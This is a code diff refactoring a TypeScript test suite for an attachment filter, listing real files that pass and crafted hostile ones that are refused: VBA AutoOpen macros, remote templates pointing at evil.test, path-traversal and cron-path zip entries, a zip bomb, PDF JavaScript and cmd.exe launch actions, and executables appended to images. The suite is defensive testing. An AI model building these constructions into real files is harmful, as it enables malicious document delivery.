@@ -36,304 +36,235 @@ interface Case {
   bytes: () => Buffer | Promise<Buffer>;
 }
 
+const file = (label: string, name: string, bytes: Case['bytes']): Case => ({ label, name, bytes });
+/** pandoc's DOCX with these parts added or replaced. */
+const docxWith = (parts: () => hostile.ZipEntry[] | Promise<hostile.ZipEntry[]>) => async () =>
+  hostile.docxWith(real.docx, await parts());
+/** The settings part naming the document's template, as Word writes it. */
+const templateAt = (target: string): hostile.ZipEntry[] => [
+  {
+    name: settingsRels,
+    data: hostile.rels(hostile.relationship('rId1', 'attachedTemplate', target, true)),
+  },
+];
+/** Chromium's PDF, updated with these objects and an addition to its catalog. */
+const pdfWith = (objects: Record<number, string>, catalog: string) => () =>
+  hostile.pdfUpdate(real.pdf, objects, catalog);
+/** A real file with something after it. */
+const followed =
+  (first: () => Buffer, ...rest: (() => Buffer)[]) =>
+  () =>
+    Buffer.concat([first(), ...rest.map((make) => make())]);
+const screenshot = () => real.screenshot;
+const photo = () => real.photo;
+
 const accepted: Case[] = [
-  {
-    label: 'a PDF printed by Chromium, with a web link',
-    name: 'propuesta.pdf',
-    bytes: () => real.pdf,
-  },
-  {
-    label: 'a DOCX written by pandoc, with a web link',
-    name: 'propuesta.docx',
-    bytes: () => real.docx,
-  },
-  { label: 'a Word 97 DOC written by LibreOffice', name: 'propuesta.doc', bytes: () => real.doc },
-  {
-    label: 'a screenshot PNG taken by Chromium',
-    name: 'captura.png',
-    bytes: () => real.screenshot,
-  },
-  {
-    label: 'a phone photo: JPEG with EXIF, GPS and a thumbnail',
-    name: 'IMG_0412.jpg',
-    bytes: () => real.photo,
-  },
-  {
-    label: 'a phone photo followed by a second image (MPF gain map)',
-    name: 'PXL_0412.jpg',
-    bytes: () => Buffer.concat([real.photo, real.plainJpeg]),
-  },
-  {
-    label: 'a motion photo: the JPEG followed by its MP4 (Google layout)',
-    name: 'PXL_0413.MP.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.mp4()]),
-  },
-  {
-    label: 'a Samsung motion photo (SEF trailer holding the MP4)',
-    name: '20261120_094107.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.samsungTrailer(hostile.mp4())]),
-  },
-  {
-    label: 'a DOCX made from a template on the author’s own disk',
-    name: 'informe.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [
-        {
-          name: settingsRels,
-          data: hostile.rels(
-            hostile.relationship(
-              'rId1',
-              'attachedTemplate',
-              'file:///C:/Users/ana/AppData/Roaming/Microsoft/Templates/Informe.dotx',
-              true,
-            ),
-          ),
-        },
-      ]),
-  },
+  file('a PDF printed by Chromium, with a web link', 'propuesta.pdf', () => real.pdf),
+  file('a DOCX written by pandoc, with a web link', 'propuesta.docx', () => real.docx),
+  file('a Word 97 DOC written by LibreOffice', 'propuesta.doc', () => real.doc),
+  file('a screenshot PNG taken by Chromium', 'captura.png', screenshot),
+  file('a phone photo: JPEG with EXIF, GPS and a thumbnail', 'IMG_0412.jpg', photo),
+  file(
+    'a phone photo followed by a second image (MPF gain map)',
+    'PXL_0412.jpg',
+    followed(photo, () => real.plainJpeg),
+  ),
+  file(
+    'a motion photo: the JPEG followed by its MP4 (Google layout)',
+    'PXL_0413.MP.jpg',
+    followed(photo, hostile.mp4),
+  ),
+  file(
+    'a Samsung motion photo (SEF trailer holding the MP4)',
+    '20261120_094107.jpg',
+    followed(photo, () => hostile.samsungTrailer(hostile.mp4())),
+  ),
+  file(
+    'a DOCX made from a template on the author’s own disk',
+    'informe.docx',
+    docxWith(() =>
+      templateAt('file:///C:/Users/ana/AppData/Roaming/Microsoft/Templates/Informe.dotx'),
+    ),
+  ),
 ];
 
 const javascriptAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 const refused: Case[] = [
-  {
-    label: 'a DOC with a VBA macro project (Macros storage, AutoOpen)',
-    name: 'factura.doc',
-    bytes: () =>
-      hostile.docWith(real.doc, {
-        '/Macros/VBA/ThisDocument': Buffer.from(
-          'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n',
-        ),
-        '/Macros/VBA/dir': Buffer.alloc(512, 1),
-        '/Macros/PROJECT': Buffer.from(
-          'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
-        ),
-      }),
-  },
-  {
-    label: 'a DOC with an embedded OLE object (ObjectPool)',
-    name: 'factura.doc',
-    bytes: () =>
-      hostile.docWith(real.doc, {
-        '/ObjectPool/_1234567890/\u0001Ole10Native': Buffer.concat([
-          Buffer.alloc(4),
-          hostile.executable(),
-        ]),
-        '/ObjectPool/_1234567890/\u0001CompObj': Buffer.alloc(64, 2),
-      }),
-  },
-  {
-    label: 'a DOC with an executable appended',
-    name: 'factura.doc',
-    bytes: () => Buffer.concat([real.doc, hostile.executable()]),
-  },
-  {
-    label: 'a DOC with bytes appended after its last sector',
-    name: 'factura.doc',
-    bytes: () => Buffer.concat([real.doc, Buffer.alloc(3000, 0x41)]),
-  },
-  {
-    label: 'a DOC whose directory entries form a cycle',
-    name: 'factura.doc',
-    bytes: () => hostile.docWithDirectoryCycle(real.doc),
-  },
-  {
-    label: 'an RTF saved as .doc (AbiWord’s “Word 97” export)',
-    name: 'carta.doc',
-    bytes: () => real.abiwordDoc,
-  },
-  {
-    label: 'a DOCX with vbaProject.bin',
-    name: 'factura.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [{ name: 'word/vbaProject.bin', data: Buffer.alloc(2048, 7) }]),
-  },
-  {
-    label: 'a DOCX with a remote attachedTemplate (the remote-template pattern)',
-    name: 'factura.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [
-        {
-          name: settingsRels,
-          data: hostile.rels(
-            hostile.relationship(
-              'rId1',
-              'attachedTemplate',
-              'https://evil.test/plantilla.dotm',
-              true,
-            ),
-          ),
-        },
-      ]),
-  },
-  {
-    label: 'a DOCX with a remote template behind an entity-encoded TargetMode',
-    name: 'factura.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [
-        {
-          name: settingsRels,
-          data: hostile.rels(
-            `<Relationship TargetMode='&#69;xternal' Target='\\\\evil.test\\share\\t.dotm' Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>`,
-          ),
-        },
-      ]),
-  },
-  {
-    label: 'a DOCX with an external oleObject relationship',
-    name: 'factura.docx',
-    bytes: async () =>
-      hostile.docxWith(real.docx, [
-        await documentRelsWith(
-          hostile.relationship('rId90', 'oleObject', 'https://evil.test/o.bin', true),
-        ),
-      ]),
-  },
-  {
-    label: 'a DOCX with an external frame',
-    name: 'factura.docx',
-    bytes: async () =>
-      hostile.docxWith(real.docx, [
-        await documentRelsWith(
-          hostile.relationship('rId91', 'frame', 'https://evil.test/f.html', true),
-        ),
-      ]),
-  },
-  {
-    label: 'a DOCX with an embedded OLE object',
-    name: 'factura.docx',
-    bytes: async () =>
-      hostile.docxWith(real.docx, [
-        { name: 'word/embeddings/oleObject1.bin', data: hostile.executable() },
-        await documentRelsWith(
-          hostile.relationship('rId92', 'oleObject', 'embeddings/oleObject1.bin'),
-        ),
-      ]),
-  },
-  {
-    label: 'a DOCX with a ../ entry name',
-    name: 'factura.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [{ name: '../../evil.bat', data: Buffer.from('calc\r\n') }]),
-  },
-  {
-    label: 'a DOCX with an absolute entry name',
-    name: 'factura.docx',
-    bytes: () =>
-      hostile.docxWith(real.docx, [{ name: '/etc/cron.d/evil', data: Buffer.from('x') }]),
-  },
-  {
-    label: 'a DOCX zip bomb (1 GiB of zeros in one part)',
-    name: 'factura.docx',
-    bytes: () => hostile.docxWith(real.docx, [hostile.gibibyteOfZeros('word/media/image9.png')]),
-  },
-  {
-    label: 'a PDF with JavaScript run on opening (/OpenAction, /JS)',
-    name: 'factura.pdf',
-    bytes: () => hostile.pdfUpdate(real.pdf, { 90: javascriptAction }, '/OpenAction 90 0 R'),
-  },
-  {
-    label: 'a PDF with JavaScript under #xx-escaped names',
-    name: 'factura.pdf',
-    bytes: () =>
-      hostile.pdfUpdate(
-        real.pdf,
-        { 90: '<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' },
-        '/OpenAction 90 0 R',
+  file('a DOC with a VBA macro project (Macros storage, AutoOpen)', 'factura.doc', () =>
+    hostile.docWith(real.doc, {
+      '/Macros/VBA/ThisDocument': Buffer.from(
+        'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n',
       ),
-  },
-  {
-    label: 'a PDF with JavaScript inside a compressed object stream',
-    name: 'factura.pdf',
-    bytes: () =>
-      hostile.pdfUpdate(
-        real.pdf,
-        { 91: hostile.objectStream({ 90: javascriptAction }) },
-        '/OpenAction 90 0 R',
+      '/Macros/VBA/dir': Buffer.alloc(512, 1),
+      '/Macros/PROJECT': Buffer.from(
+        'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
       ),
-  },
-  {
-    label: 'a PDF with a launch action',
-    name: 'factura.pdf',
-    bytes: () =>
-      hostile.pdfUpdate(
-        real.pdf,
-        { 90: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
-        '/OpenAction 90 0 R',
-      ),
-  },
-  {
-    label: 'a PDF with an embedded file',
-    name: 'factura.pdf',
-    bytes: () =>
-      hostile.pdfUpdate(
-        real.pdf,
-        {
-          90: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream',
-          91: '<< /Type /Filespec /F (factura.exe) /EF << /F 90 0 R >> >>',
-          92: '<< /EmbeddedFiles << /Names [(factura.exe) 91 0 R] >> >>',
-        },
-        '/Names 92 0 R',
-      ),
-  },
-  {
-    label: 'a PDF carrying a ZIP whose end record is 100 KiB from the end',
-    name: 'factura.pdf',
-    bytes: () =>
-      Buffer.concat([
-        real.pdf,
-        hostile.smallZip(),
-        Buffer.from(`\n%${'x'.repeat(100_000)}\n%%EOF\n`),
+    }),
+  ),
+  file('a DOC with an embedded OLE object (ObjectPool)', 'factura.doc', () =>
+    hostile.docWith(real.doc, {
+      '/ObjectPool/_1234567890/\u0001Ole10Native': Buffer.concat([
+        Buffer.alloc(4),
+        hostile.executable(),
       ]),
-  },
-  {
-    label: 'a PNG with an executable after IEND',
-    name: 'captura.png',
-    bytes: () => Buffer.concat([real.screenshot, hostile.executable()]),
-  },
-  {
-    label: 'a PNG with a RAR archive after IEND',
-    name: 'captura.png',
-    bytes: () => Buffer.concat([real.screenshot, hostile.rar()]),
-  },
-  {
-    label: 'a PNG with a 7z archive after IEND',
-    name: 'captura.png',
-    bytes: () => Buffer.concat([real.screenshot, hostile.sevenZip()]),
-  },
-  {
-    label: 'a PNG with a web page after IEND',
-    name: 'captura.png',
-    bytes: () => Buffer.concat([real.screenshot, hostile.html()]),
-  },
-  {
-    label: 'a PNG carrying a ZIP in a chunk 100 KiB from the end',
-    name: 'captura.png',
-    bytes: () =>
-      hostile.pngWithChunk(
-        hostile.pngWithChunk(real.screenshot, hostile.pngChunk('ziPp', hostile.smallZip())),
-        hostile.pngChunk('tEXt', Buffer.from(`Comment\0${'x'.repeat(100_000)}`, 'latin1')),
+      '/ObjectPool/_1234567890/\u0001CompObj': Buffer.alloc(64, 2),
+    }),
+  ),
+  file(
+    'a DOC with an executable appended',
+    'factura.doc',
+    followed(() => real.doc, hostile.executable),
+  ),
+  file(
+    'a DOC with bytes appended after its last sector',
+    'factura.doc',
+    followed(
+      () => real.doc,
+      () => Buffer.alloc(3000, 0x41),
+    ),
+  ),
+  file('a DOC whose directory entries form a cycle', 'factura.doc', () =>
+    hostile.docWithDirectoryCycle(real.doc),
+  ),
+  file('an RTF saved as .doc (AbiWord’s “Word 97” export)', 'carta.doc', () => real.abiwordDoc),
+  file(
+    'a DOCX with vbaProject.bin',
+    'factura.docx',
+    docxWith(() => [{ name: 'word/vbaProject.bin', data: Buffer.alloc(2048, 7) }]),
+  ),
+  file(
+    'a DOCX with a remote attachedTemplate (the remote-template pattern)',
+    'factura.docx',
+    docxWith(() => templateAt('https://evil.test/plantilla.dotm')),
+  ),
+  file(
+    'a DOCX with a remote template behind an entity-encoded TargetMode',
+    'factura.docx',
+    docxWith(() => [
+      {
+        name: settingsRels,
+        data: hostile.rels(
+          `<Relationship TargetMode='&#69;xternal' Target='\\\\evil.test\\share\\t.dotm' Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>`,
+        ),
+      },
+    ]),
+  ),
+  ...(
+    [
+      ['an external oleObject relationship', 'oleObject', 'https://evil.test/o.bin'],
+      ['an external frame', 'frame', 'https://evil.test/f.html'],
+    ] as const
+  ).map(([what, type, target], index) =>
+    file(
+      `a DOCX with ${what}`,
+      'factura.docx',
+      docxWith(async () => [
+        await documentRelsWith(hostile.relationship(`rId9${index}`, type, target, true)),
+      ]),
+    ),
+  ),
+  file(
+    'a DOCX with an embedded OLE object',
+    'factura.docx',
+    docxWith(async () => [
+      { name: 'word/embeddings/oleObject1.bin', data: hostile.executable() },
+      await documentRelsWith(
+        hostile.relationship('rId92', 'oleObject', 'embeddings/oleObject1.bin'),
       ),
-  },
-  {
-    label: 'a phone photo with an executable after the image',
-    name: 'IMG_0412.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.executable()]),
-  },
-  {
-    label: 'a phone photo with a web page after the image',
-    name: 'IMG_0412.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.html()]),
-  },
-  {
-    label: 'a phone photo with a ZIP after the image',
-    name: 'IMG_0412.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.smallZip()]),
-  },
-  {
-    label: 'a motion photo whose video hides a web page',
-    name: 'PXL_0413.MP.jpg',
-    bytes: () => Buffer.concat([real.photo, hostile.mp4(), hostile.html()]),
-  },
+    ]),
+  ),
+  file(
+    'a DOCX with a ../ entry name',
+    'factura.docx',
+    docxWith(() => [{ name: '../../evil.bat', data: Buffer.from('calc\r\n') }]),
+  ),
+  file(
+    'a DOCX with an absolute entry name',
+    'factura.docx',
+    docxWith(() => [{ name: '/etc/cron.d/evil', data: Buffer.from('x') }]),
+  ),
+  file(
+    'a DOCX zip bomb (1 GiB of zeros in one part)',
+    'factura.docx',
+    docxWith(() => [hostile.gibibyteOfZeros('word/media/image9.png')]),
+  ),
+  file(
+    'a PDF with JavaScript run on opening (/OpenAction, /JS)',
+    'factura.pdf',
+    pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R'),
+  ),
+  file(
+    'a PDF with JavaScript under #xx-escaped names',
+    'factura.pdf',
+    pdfWith(
+      { 90: '<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' },
+      '/OpenAction 90 0 R',
+    ),
+  ),
+  file(
+    'a PDF with JavaScript inside a compressed object stream',
+    'factura.pdf',
+    pdfWith({ 91: hostile.objectStream({ 90: javascriptAction }) }, '/OpenAction 90 0 R'),
+  ),
+  file(
+    'a PDF with a launch action',
+    'factura.pdf',
+    pdfWith(
+      { 90: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
+      '/OpenAction 90 0 R',
+    ),
+  ),
+  file(
+    'a PDF with an embedded file',
+    'factura.pdf',
+    pdfWith(
+      {
+        90: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream',
+        91: '<< /Type /Filespec /F (factura.exe) /EF << /F 90 0 R >> >>',
+        92: '<< /EmbeddedFiles << /Names [(factura.exe) 91 0 R] >> >>',
+      },
+      '/Names 92 0 R',
+    ),
+  ),
+  file(
+    'a PDF carrying a ZIP whose end record is 100 KiB from the end',
+    'factura.pdf',
+    followed(
+      () => real.pdf,
+      hostile.smallZip,
+      () => Buffer.from(`\n%${'x'.repeat(100_000)}\n%%EOF\n`),
+    ),
+  ),
+  ...(
+    [
+      ['an executable', hostile.executable],
+      ['a RAR archive', hostile.rar],
+      ['a 7z archive', hostile.sevenZip],
+      ['a web page', hostile.html],
+    ] as const
+  ).map(([what, make]) =>
+    file(`a PNG with ${what} after IEND`, 'captura.png', followed(screenshot, make)),
+  ),
+  file('a PNG carrying a ZIP in a chunk 100 KiB from the end', 'captura.png', () =>
+    hostile.pngWithChunk(
+      hostile.pngWithChunk(real.screenshot, hostile.pngChunk('ziPp', hostile.smallZip())),
+      hostile.pngChunk('tEXt', Buffer.from(`Comment\0${'x'.repeat(100_000)}`, 'latin1')),
+    ),
+  ),
+  ...(
+    [
+      ['an executable', hostile.executable],
+      ['a web page', hostile.html],
+      ['a ZIP', hostile.smallZip],
+    ] as const
+  ).map(([what, make]) =>
+    file(`a phone photo with ${what} after the image`, 'IMG_0412.jpg', followed(photo, make)),
+  ),
+  file(
+    'a motion photo whose video hides a web page',
+    'PXL_0413.MP.jpg',
+    followed(photo, hostile.mp4, hostile.html),
+  ),
 ];
 
 describe('attachments: ordinary files from real programs pass, hostile ones never reach the staff', async () => {
